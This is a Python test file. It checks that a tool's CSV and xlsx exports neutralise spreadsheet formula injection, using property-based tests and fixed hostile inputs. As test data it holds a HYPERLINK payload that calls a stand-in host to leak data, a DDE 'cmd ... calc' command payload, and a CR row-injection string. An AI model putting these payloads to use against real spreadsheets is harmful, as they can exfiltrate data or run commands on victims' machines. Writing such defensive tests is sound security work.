"""Formula injection: no cell of any CSV or xlsx xch writes is a formula, and its text stays readable.

The files are the real ones (`xch whitelist export`, `whitelist query --csv`, `xch scan --format csv|xlsx`),
reopened with openpyxl and the csv module. Hostile text reaches them through a compiled run folder
(product.json from a vendor), through `whitelist import-list`, and through scanned file names and lines.
"""

from __future__ import annotations

import csv
import io
import itertools
import sys
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures"))
from whitelist_lib import db_url, make_run, wl  # noqa: E402,F401

from harness.core.spreadsheet import csv_cell, csv_text, csv_uncell, formula_like, xlsx_append, xlsx_text  # noqa: E402
from harness.scan import render as scan_render  # noqa: E402
from harness.scan import scan_path  # noqa: E402
from harness.whitelist.exchange import render as export_render  # noqa: E402
from harness.whitelist.query import EXPORT_COLUMNS  # noqa: E402

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
HOSTILE_RUN = {"vendor": HYPERLINK, "name": "=1+1", "version": "+1"}
HOSTILE_LIST = ("product_name,product_version,company_name,type,test_organization,platform_type_and_server_model,"
                "os_version,certificate_id\n"
                '@SUM(A1),-2+3,"=cmd|\' /C calc\'!A0",database,"\t=2*3",Kunpeng 920,22.03 LTS SP1,+CERT-1\n')
LIST_TEXTS = {"@SUM(A1)", "-2+3", "=cmd|' /C calc'!A0", "=2*3", "+CERT-1"}


def xlsx_cells(path: Path):
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula_in_xlsx(path: Path, texts: set[str]) -> None:
    seen = set()
    for cell in xlsx_cells(path):
        assert cell.data_type != "f", f"{path}: {cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str) and formula_like(cell.value):
            assert cell.quotePrefix, f"{cell.coordinate}: formula-like text without the quote prefix"
        seen.add(cell.value)
    assert texts <= seen, f"texts not kept as given: {texts - seen}"


def assert_no_formula_in_csv(text: str, texts: set[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [c for c in cells if formula_like(c)], [c for c in cells if formula_like(c)]
    assert {"'" + t for t in texts} <= set(cells), "hostile text not kept readable with its apostrophe"


def test_whitelist_export_neutralises_run_and_list_cells(tmp_path, db_url):
    run = make_run(tmp_path / "hostile-run", **HOSTILE_RUN)
    assert wl("compile", str(run), "--by", "lab", db=db_url).rc == 0
    listed = tmp_path / "hostile.csv"
    listed.write_text(HOSTILE_LIST, encoding="utf-8")
    done = wl("import-list", str(listed), "--by", "clerk", db=db_url)
    assert done.rc == 0, done.stderr
    texts = set(HOSTILE_RUN.values()) | LIST_TEXTS

    out = tmp_path / "list.xlsx"
    assert wl("export", "--format", "xlsx", "--out", str(out), db=db_url).rc == 0
    assert_no_formula_in_xlsx(out, texts)
    out = tmp_path / "list.csv"
    assert wl("export", "--format", "csv", "--out", str(out), db=db_url).rc == 0
    assert_no_formula_in_csv(out.read_text(encoding="utf-8-sig"), texts)
    printed = wl("query", "--csv", db=db_url)
    assert printed.rc == 0 and printed.stdout.startswith("product_name,")
    assert_no_formula_in_csv(printed.stdout, texts)

    # an export read back by import-list loses the apostrophes again: the stored names do not drift
    before = wl("query", "--json", db=db_url).json()
    again = wl("import-list", str(out), "--by", "clerk", "--json", db=db_url)
    assert again.rc == 0, again.stderr
    assert {r["product"] for r in wl("query", "--json", db=db_url).json()} == {r["product"] for r in before}


def test_scan_csv_and_xlsx_neutralise_file_names_and_lines(tmp_path):
    tree = tmp_path / "src"
    tree.mkdir()
    (tree / "@x.c").write_text("#include <immintrin.h>\n")
    (tree / "Makefile").write_text("=cmd|' /C calc'!A0 -mavx2\n")
    report = scan_path(tree)
    texts = {"@x.c", "=cmd|' /C calc'!A0 -mavx2"}
    assert_no_formula_in_csv(scan_render(report, "csv"), texts)
    out = tmp_path / "scan.xlsx"
    out.write_bytes(scan_render(report, "xlsx"))
    assert_no_formula_in_xlsx(out, texts)


def test_a_line_end_inside_a_cell_cannot_split_the_row():
    """A CR in a vendor name once went out unquoted (the writer ended rows in a bare LF): a row injection."""
    text = csv_text([{"a": "V\r=HYPERLINK(1)", "b": "x\ny"}, {"a": "2", "b": "\r\n"}], ["a", "b"])
    assert list(csv.DictReader(io.StringIO(text, newline=""))) == [{"a": "V\r=HYPERLINK(1)", "b": "x\ny"},
                                                                    {"a": "2", "b": "'\r\n"}]
    assert text.count("\r\n") == 3 + 1  # header, two rows, and the one inside the quoted cell


def test_the_guard_itself():
    for text in ("=1", "+1", "-1", "@x", "\t1", "\r1", " =1", "\n@x", "\x00=1"):
        assert formula_like(text) and csv_cell(text) == "'" + text and csv_uncell(csv_cell(text)) == text
    for value in ("a=1", "1-2", "", "'plain", "中文=1", 5, -3, 1.5, None, True):
        assert not formula_like(value) and csv_cell(value) == value
    assert csv_uncell("'quoted but harmless") == "'quoted but harmless"


# -- properties: whatever the text, the cell is data and reads back ------------------------------

cell_text = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40) | st.sampled_from(
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", HYPERLINK, "=cmd|' /C calc'!A0", "a\r=1", "\r"])
any_text = st.text(max_size=40)  # includes lone surrogates and every control character


def entry_row(texts: list[str]) -> dict:
    """A query row whose every exported field is one of the given texts."""
    t = itertools.cycle(texts)
    return {"product": next(t), "version": next(t), "vendor": next(t), "category": next(t),
            "test_organisation": next(t), "arch": next(t), "cpu": next(t), "os": next(t), "os_version": next(t),
            "certificate": next(t), "certificate_issued": next(t), "tested_at": "", "cpu_family": next(t),
            "accelerator": next(t), "status": next(t), "level": next(t), "stage": next(t), "valid_until": next(t),
            "covered_by": None, "reasons": [next(t)], "evidence": next(t), "external": None}


@settings(max_examples=150, deadline=None)
@given(st.lists(cell_text, min_size=1, max_size=8))
def test_property_export_csv_cells_are_data(texts):
    data = export_render([entry_row(texts)], "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert len(rows) == 1 and list(rows[0]) == [k for k, _ in EXPORT_COLUMNS]
    for value in rows[0].values():
        assert not formula_like(value)
    assert csv_uncell(rows[0]["product_name"]) == entry_row(texts)["product"]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(any_text | cell_text, min_size=1, max_size=8))
def test_property_export_xlsx_cells_are_data(texts):
    book = load_workbook(io.BytesIO(export_render([entry_row(texts)], "xlsx")))
    row = [c for c in book.worksheets[0][2]]
    assert all(c.data_type != "f" for c in row)
    assert row[0].value == (xlsx_text(entry_row(texts)["product"]) or None)


@settings(max_examples=100, deadline=None)
@given(st.lists(any_text | cell_text | st.integers() | st.none(), min_size=1, max_size=6))
def test_property_xlsx_append_keeps_text(values):
    book = Workbook()
    xlsx_append(book.active, values)
    buf = io.BytesIO()
    book.save(buf)
    cells = load_workbook(buf).active[1]
    for cell, value in zip(cells, values, strict=False):  # trailing None cells are not stored
        assert cell.data_type != "f"
        if isinstance(value, str):
            assert cell.value == (xlsx_text(value) or None)
